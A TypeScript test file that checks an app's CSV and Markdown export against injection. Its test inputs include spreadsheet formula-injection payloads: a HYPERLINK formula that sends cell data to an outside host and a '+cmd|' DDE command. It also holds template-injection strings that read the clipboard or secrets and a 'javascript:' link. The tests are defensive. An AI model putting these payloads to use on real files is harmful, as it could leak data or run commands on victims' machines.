import { expect, test } from 'vitest';
import { frontMatter } from '../../utils/reader/yaml-text.ts';
import { exportedText } from './exported.ts';
import { frontMatterOf } from './field-parsers.ts';
import { clipping } from './made-clipping.ts';

const made = clipping('c1');

/** A clipping whose words, title, note and tags are an attacker's. */
const of = (evil: string): ReturnType<typeof clipping> =>
  clipping('c1', {
    quote: { ...made.quote, exact: evil, said: [] },
    article: { ...made.article, title: evil, authors: [evil] },
    note: evil,
    tags: ['dams', evil],
  });

/** What a spreadsheet makes of it that parts cells by semicolons: a quotation mark counts only where a cell begins. */
function cellsBySemicolon(text: string): string[] {
  return text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\s"\ufeff\u200b]*/, ''));
}

test.each([
  'The dam is dry;=HYPERLINK("https://example.invalid/?"&A1;"x")',
  'The dam is dry; +1+cmd|x',
  'The dam is dry;"=1+1"',
  'The dam is dry\t@SUM(A1)',
  'The dam is dry\r\n-1+1',
  'The dam is dry;\u00a0＝1',
  '=1',
])('a spreadsheet that parts cells by semicolons runs nothing of %j either', async (evil) => {
  const text = await exportedText('csv', [of(evil)]);
  for (const cell of cellsBySemicolon(text)) expect(cell).not.toMatch(/^[=+\-@|＝]/);
});

test.each([
  ['<% tp.system.clipboard() %>', /<%/],
  ['{{ site.secret }}', /\{\{/],
  ['{% include secret %}', /\{%/],
])('a program that runs templates in notes finds none in %j', async (evil, template) => {
  // A note is the reader's own words, and may be a template of theirs.
  const text = await exportedText('markdown', [{ ...of(evil), note: '' }]);
  expect(text).not.toMatch(template);
});

test.each(['<% tp.system.clipboard() %>', '{{ site.secret }}', '{% include secret %}'])(
  'front matter has %j as a value, and no template',
  (evil) => {
    const text = frontMatter({ title: evil });
    expect(frontMatterOf(text)).toEqual({ title: evil });
    expect(text).not.toMatch(/<%|\{\{|\{%/);
  },
);

test.each([
  ['It costs $5 and $\\href{javascript:alert(1)}{x}$', '\\$\\\\href'],
  ['A %%hidden%% word', '%\\%hidden'],
  ['A ==marked== word', '=\\=marked'],
  ['Written &#x202e;backwards &lt;b&gt;', '\\&\\#x202e;'],
])('Markdown shows %j as it is', async (evil, written) => {
  expect(await exportedText('markdown', [{ ...of(evil), note: '' }])).toContain(written);
});

test('Markdown leaves an ampersand and a per cent sign of plain text alone', async () => {
  expect(await exportedText('markdown', [of('Rivers & Dams got 5 % more')])).toContain(
    '> Rivers & Dams got 5 % more',
  );
});
